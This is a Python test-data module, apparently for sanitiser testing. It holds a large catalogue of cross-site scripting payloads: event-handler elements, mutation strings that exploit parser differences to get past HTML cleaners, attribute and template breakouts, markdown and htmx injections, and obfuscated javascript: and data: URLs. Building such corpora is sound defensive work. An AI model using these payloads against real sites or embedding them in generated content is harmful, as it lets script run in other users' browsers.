"""Ways to get a script to run out of text that a stranger wrote, each of which says its own number when it does."""
# ruff: noqa: E501, RUF005

from __future__ import annotations

import base64

# what stands in a document and runs by itself, or when it is pointed at or comes into focus
_ELEMENTS = (
    "<script>alert(0)</script>", "<script/x>alert(0)</script>", "<script src=data:text/javascript,alert(0)></script>",
    "<script type=module>alert(0)</script>", "<svg><script>alert(0)</script></svg>", "<svg><script href=data:,alert(0) />",
    "<img src=x onerror=alert(0)>", "<img/src=x/onerror=alert(0)>", "<img src=x:x onerror='alert(0)'>", "<image src=x onerror=alert(0)>",
    '<img src onerror="alert(0)">', "<img srcset=x onerror=alert(0)>", "<img src=data:, onerror=alert(0)>",
    "<svg onload=alert(0)>", "<svg/onload=alert(0)>", "<svg><image href=x onerror=alert(0)>", "<svg><g onload=alert(0)></g></svg>",
    "<svg><animate onbegin=alert(0) attributeName=x dur=1s>", "<svg><set onbegin=alert(0) attributename=x>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='alert(0)'/></svg>#x\">",
    "<svg><a href=javascript:alert(0)><text y=20>read on</text></a></svg>", "<svg><foreignObject><img src=x onerror=alert(0)>",
    "<svg><discard onbegin=alert(0)>", "<math><mi xlink:href=javascript:alert(0)>x</mi></math>", "<math href=javascript:alert(0)>x</math>",
    "<body onload=alert(0)>", "<body onpageshow=alert(0)>", "<frameset onload=alert(0)>", "<body onhashchange=alert(0)>",
    "<iframe onload=alert(0)></iframe>", "<iframe srcdoc='<script>parent.alert(0)</script>'></iframe>",
    "<iframe src=javascript:parent.alert(0)></iframe>", "<iframe srcdoc='&lt;img src=x onerror=parent.alert(0)&gt;'></iframe>",
    "<object data=javascript:alert(0)></object>", "<object data=x onerror=alert(0)></object>", "<embed src=javascript:alert(0)>",
    "<embed src='data:text/html,<script>parent.alert(0)</script>'>", "<object type=text/html data='data:text/html,<script>alert(0)</script>'>",
    "<video><source onerror=alert(0)></video>", "<video src=x onerror=alert(0)></video>", "<audio src=x onerror=alert(0)></audio>",
    "<audio autoplay onloadstart=alert(0) src=x></audio>", "<video poster=javascript:alert(0)></video>", "<track onerror=alert(0)>",
    "<video onloadstart=alert(0) src=x>", "<details open ontoggle=alert(0)>x</details>", "<details ontoggle=alert(0)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(0)>", "<select autofocus onfocus=alert(0)></select>", "<textarea autofocus onfocus=alert(0)></textarea>",
    "<button autofocus onfocus=alert(0)>x</button>", "<a href=# autofocus onfocus=alert(0)>x</a>", "<p tabindex=0 autofocus onfocus=alert(0)>x</p>",
    "<p contenteditable autofocus onfocus=alert(0)>x</p>", "<input type=image src=x onerror=alert(0)>", "<input onblur=alert(0) autofocus>",
    "<marquee onstart=alert(0)>x</marquee>", "<marquee behavior=alternate onbounce=alert(0)>x</marquee>", "<link rel=stylesheet href=x onerror=alert(0)>",
    "<style onload=alert(0)></style>", "<style>@keyframes a{}</style><b style=animation-name:a onanimationstart=alert(0)>x</b>",
    "<b style=transition:color+1s ontransitionend=alert(0)>x</b>", "<b onmouseover=alert(0)>x</b>", "<b onpointerenter=alert(0)>x</b>",
    "<b onclick=alert(0)>x</b>", "<b oncontextmenu=alert(0)>x</b>", "<a onmouseenter=alert(0)>x</a>", "<b onwheel=alert(0)>x</b>",
    "<x onclick=alert(0)>x</x>", "<x onpointermove=alert(0)>x</x>", "<form onsubmit=alert(0)><button>x</button></form>",
    "<form action=javascript:alert(0)><button>x</button></form>", "<form><button formaction=javascript:alert(0)>x</button></form>",
    "<form><input type=submit formaction=javascript:alert(0)></form>", "<isindex action=javascript:alert(0) type=submit>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(0)'>", "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(0)</script>'>",
    "<base href=javascript:alert(0)//><a href=x>x</a>", "<a href=javascript:alert(0)>x</a>", "<area href=javascript:alert(0)>",
    "<table background=javascript:alert(0)>", "<td background=javascript:alert(0)>", "<b style=background:url(javascript:alert(0))>x</b>",
    "<b style='width:expression(alert(0))'>x</b>", "<style>@import 'javascript:alert(0)';</style>", "<link rel=import href=data:text/html,<script>alert(0)</script>>",
    "<link rel=icon href=javascript:alert(0)>", "<template><script>alert(0)</script></template>", "<dialog open onclose=alert(0)><form method=dialog><button autofocus>x",
    "<div popover id=p onbeforetoggle=alert(0)>x</div><button popovertarget=p>x</button>", "<template shadowrootmode=open><img src=x onerror=alert(0)></template>",
    "<portal src=javascript:alert(0)></portal>", "<img src=x usemap=#m><map name=m><area shape=default href=javascript:alert(0)></map>",
    "<picture><source srcset=x><img onerror=alert(0) src=x></picture>", "<xml onreadystatechange=alert(0)>", "<bgsound src=javascript:alert(0)>",
)  # fmt: skip

# what a cleaner reads otherwise than a browser does
_READ_OTHERWISE = (
    '<noscript><p title="</noscript><img src=x onerror=alert(0)>">', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(0)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(0)>">', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(0)>',
    "<listing>&lt;img src=x onerror=alert(0)&gt;</listing>", '<xmp><p title="</xmp><img src=x onerror=alert(0)>">', "<noembed><img title='</noembed><img src=x onerror=alert(0)>'></noembed>",
    '<svg><title><a title="</title><img src=x onerror=alert(0)>">', '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(0)></annotation-xml></math>',
    "<svg><desc><img src=x onerror=alert(0)></desc></svg>", '<select><template><style><!--</style><a title="--><img src=x onerror=alert(0)>">',
    '<table><td><svg><style><p title="</style><img src=x onerror=alert(0)>">', "<plaintext><img src=x onerror=alert(0)>",
    "<title><img src=x onerror=alert(0)></title>", "<textarea><img src=x onerror=alert(0)></textarea><img src=x onerror=alert(0)>",
    "<![CDATA[<img src=x onerror=alert(0)>]]>", "<![CDATA[><img src=x onerror=alert(0)>", "<!--><img src=x onerror=alert(0)>-->", "<!--->-><img src=x onerror=alert(0)>",
    "<!-- --!><img src=x onerror=alert(0)>-->", "<!doctype x [<!entity y '<img src=x onerror=alert(0)>'>]>&y;", "<?xml version='1.0'?><img src=x onerror=alert(0)>",
    "<?x ><img src=x onerror=alert(0)>?>", "</p/><img src=x onerror=alert(0)>", "<a/><img src=x onerror=alert(0)>", "<p/onclick=alert(0)//>x",
    "<<img src=x onerror=alert(0)>", "<img src=x onerror=alert(0)//", "<img src=x onerror=alert(0) ", "<img src=x\tonerror\n=\r'alert(0)'>", "<img src=x\x0conerror=alert(0)>",
    "<img \x00src=x onerror=alert(0)>", "<scr\x00ipt>alert(0)</scr\x00ipt>", "<scr<script>ipt>alert(0)</scr</script>ipt>", "<IMG SRC=x OnErRoR=alert(0)>",
    "<ſcript>alert(0)</ſcript>", "＜script＞alert(0)＜/script＞", "<img src=x onerror&#61;alert(0)>", "<img src=x onerror=&#97;lert(0)>", "<img src=x onerror=\\u0061lert(0)>",
    "&lt;img src=x onerror=alert(0)&gt;", "&amp;lt;img src=x onerror=alert(0)&amp;gt;", "&#60;img src=x onerror=alert(0)&#62;", "&#x3c;svg onload=alert(0)&#x3e;", "&lt;script&gt;alert(0)&lt;/script&gt;",
    "+ADw-script+AD4-alert(0)+ADw-/script+AD4-", "%3Cscript%3Ealert(0)%3C/script%3E", "\\x3cscript\\x3ealert(0)\\x3c/script\\x3e", "\\u003cimg src=x onerror=alert(0)\\u003e",
)  # fmt: skip

# what breaks out of where text is put: an attribute, a script, a comment, a template, a mark of another format
_BREAKING_OUT = tuple(
    f"{out}<img src=x onerror=alert(0)>"
    for out in (
        '">', "'>", "`>", "</title>", "</script>", "</style>", "</textarea>", "</noscript>", "</a>", "-->", "]]>", "</template>", "</svg>", "*/", "\\\">", "</summary>",
    )
) + (
    '" onmouseover="alert(0)', "' onmouseover='alert(0)", '" autofocus onfocus="alert(0)" x="', "` onmouseover=alert(0) x=`", "x onmouseover=alert(0)",
    '" style="animation-name:x" onanimationstart="alert(0)', "';alert(0);'", '";alert(0);"', "\\';alert(0);//", "</script><script>alert(0)</script>",
    "{{constructor.constructor('alert(0)')()}}", "${alert(0)}", "{{191*7}}", "{% print(191*7) %}", "<%= 191*7 %>", "#{191*7}", "*{191*7}", "[[191*7]]",
    "[read on](javascript:alert(0))", "![x](x\"onerror=\"alert(0))", "<javascript:alert(0)>", "[x]: javascript:alert(0)", "[x](data:text/html,<script>alert(0)</script>)",
    "](x)<img src=x onerror=alert(0)>", "`<img src=x onerror=alert(0)>", "```\n</code></pre><img src=x onerror=alert(0)>", "hx-on:load=alert(0)", '<b hx-on::load="alert(0)" hx-trigger=load hx-get=/>x</b>',
    "<b data-hx-on-click=alert(0)>x</b>", "<a hx-get='javascript:alert(0)' hx-trigger=load>x</a>",
)  # fmt: skip

#: addresses that are no addresses
ADDRESSES = (
    "javascript:alert(0)", "JaVaScRiPt:alert(0)", " javascript:alert(0)", "\x01javascript:alert(0)", "java\tscript:alert(0)", "java\nscript:alert(0)", "java\rscript:alert(0)",
    "java&#10;script:alert(0)", "&#106;avascript:alert(0)", "&#x6A;avascript:alert(0)", "javascript&colon;alert(0)", "javascript&#58;alert(0)", "javascript:/*x*/alert(0)",
    "javascript://example.org/%0aalert(0)", "javascript://example.org/?%0d%0aalert(0)//", "javascript:'<script>alert(0)</script>'", "javascript:void(alert(0))", "javascript:%61lert(0)",
    "jav\x00ascript:alert(0)", "\u00a0javascript:alert(0)", "\u2028javascript:alert(0)", "javascript\u003aalert(0)", "vbscript:alert(0)", "livescript:alert(0)", "feed:javascript:alert(0)",
    "view-source:javascript:alert(0)", "jar:javascript:alert(0)!/", "data:text/html,<script>alert(0)</script>",
    "data:text/html;base64," + base64.b64encode(b"<script>alert(0)</script>").decode(), "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(0)'/>",
    "data:application/xhtml+xml,<x/>alert(0)", "DATA:text/html,<script>alert(0)</script>", "blob:http://example.org/alert(0)", "filesystem:http://example.org/alert(0)", "file:///etc/passwd#alert(0)",
    "//javascript:alert(0)", "http:javascript:alert(0)", "http://javascript:alert(0)@example.org/", 'http://h.example/"onmouseover="alert(0)', "http://h.example/'onmouseover='alert(0)",
    "http://h.example/><img src=x onerror=alert(0)>", 'http://h.example/"><svg onload=alert(0)>', "http://h.example/#javascript:alert(0)", "http://h.example/\\\"onfocus=alert(0) autofocus x=\\\"",
)  # fmt: skip

TEXTS = _ELEMENTS + _READ_OTHERWISE + _BREAKING_OUT


def numbered(vector: str, number: int) -> str:
    """The vector, which says this number when it runs."""
    return vector.replace("alert(0)", f"alert({number})")
